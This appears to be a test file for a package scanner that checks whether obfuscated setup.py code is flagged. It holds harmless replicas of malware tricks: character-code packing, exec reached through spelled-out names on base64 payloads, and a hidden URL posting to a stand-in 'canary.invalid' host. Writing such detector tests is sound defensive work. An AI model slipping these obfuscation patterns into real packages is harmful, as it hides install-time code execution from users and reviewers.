@@ -1,0 +1,110 @@
+"""Techniques real malware uses, each as a harmless replica: character-code packers, aliases of exec.
+
+Every payload here could at most print or write a canary file, and none is ever run: the tests only
+scan the files. Each technique has benign look-alikes beside it that must stay quiet.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from corpus import tree_of
+
+from chainproof.deps.files import TargetKind
+from chainproof.deps.model import Finding, Severity
+from chainproof.deps.rules.base import ScanContext
+from chainproof.deps.rules.code import code_rules
+
+
+def scan(tmp_path: Path, files: dict[str, str], kind: TargetKind = TargetKind.SDIST) -> list[Finding]:
+    ctx = ScanContext(tree_of(tmp_path / "t", files, kind), (), {})
+    return list(code_rules(ctx))
+
+
+def worst(found: list[Finding], rule: str | None = None) -> Severity:
+    return max((f.severity for f in found if rule is None or f.rule == rule), default=Severity.INFO)
+
+
+def shifted(text: str) -> str:
+    """`text` as a list of character codes each written as a shift plus a rest: `(12 << 3) + 8`."""
+    return "[" + ", ".join(f"({ord(c) >> 3} << 3) + {ord(c) & 7}" for c in text) + "]"
+
+
+CHR = "getattr(__builtins__, 'c' + 'hr')"
+
+
+# --- character-code packers ------------------------------------------------------------------
+
+
+def test_setup_script_spelling_its_strings_in_character_codes_is_high(tmp_path: Path) -> None:
+    setup = (
+        "import sys\nfrom setuptools import setup\n"
+        f"if sys.platform == ''.join(map({CHR}, {shifted('linux')})):\n"
+        f"    with open(''.join(map({CHR}, {shifted('canary.txt')})), 'w') as f:\n"
+        f"        f.write(''.join(map({CHR}, {shifted('print(1)')})))\n"
+        "setup(name='pkg')\n"
+    )
+    found = scan(tmp_path, {"pkg-1.0/setup.py": setup})
+    assert worst(found, "code-obfuscated-strings") is Severity.HIGH
+    assert "canary.txt" in next(f.message for f in found if f.rule == "code-obfuscated-strings")
+
+
+def test_character_codes_folded_back_name_the_host_they_hide(tmp_path: Path) -> None:
+    module = (
+        "import urllib.request\n"
+        f"URL = ''.join(chr(c) for c in {shifted('https://canary.invalid/x')})\n"
+        "urllib.request.urlopen(URL, data=b'1')\n"
+    )
+    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
+    assert any("canary.invalid" in f.message for f in found)
+    assert worst(found, "code-obfuscated-strings") is Severity.HIGH
+
+
+def test_chr_concatenation_is_a_hidden_string_too(tmp_path: Path) -> None:
+    codes = " + ".join(f"chr({ord(c)})" for c in "echo 1")
+    setup = f"import os\nos.system({codes})\n"
+    found = scan(tmp_path, {"pkg-1.0/setup.py": setup})
+    assert worst(found, "install-time-exec") >= Severity.MEDIUM
+    assert worst(found) >= Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "benign",
+    [
+        # A separator or a short table of codes is not hidden text.
+        "SEP = ''.join(map(chr, [44, 32]))\n",
+        # Codes computed from run-time data: a cipher or a codec, not a constant string.
+        "def rot(s):\n    return ''.join(chr(ord(c) + 1) for c in s)\n",
+        # Joining literals is ordinary string building.
+        "NAME = '-'.join(['a', 'b', 'c', 'd'])\n",
+    ],
+)
+def test_benign_string_building_stays_quiet(tmp_path: Path, benign: str) -> None:
+    found = scan(tmp_path, {"pkg-1.0/setup.py": benign + "from setuptools import setup\nsetup()\n"})
+    assert worst(found) < Severity.MEDIUM, found
+
+
+def test_a_module_table_of_character_codes_without_any_capability_is_not_high(tmp_path: Path) -> None:
+    # Box-drawing tables and the like: text as codes, but nothing that acts on the machine.
+    module = "".join(f"T{i} = ''.join(map(chr, {shifted('table')}))\n" for i in range(4))
+    found = scan(tmp_path, {"pkg-1.0/pkg/tables.py": module})
+    assert worst(found) < Severity.HIGH
+
+
+# --- runtime aliases -------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        "getattr(__builtins__, 'ex' + 'ec')(base64.b64decode(P))",
+        "eval('exec')(base64.b64decode(P))",
+        "getattr(__builtins__, 'cexe'[::-1])(base64.b64decode(P))",
+        f"getattr(__builtins__, ''.join(map(chr, {shifted('exec')})))(base64.b64decode(P))",
+    ],
+)
+def test_exec_reached_through_a_spelled_name_is_decoded_exec(tmp_path: Path, call: str) -> None:
+    setup = f"import base64\nP = 'cHJpbnQoJ2NhbmFyeScp'\n{call}\n"
+    found = scan(tmp_path, {"pkg-1.0/setup.py": setup})
+    assert worst(found, "code-exec-decoded") is Severity.CRITICAL
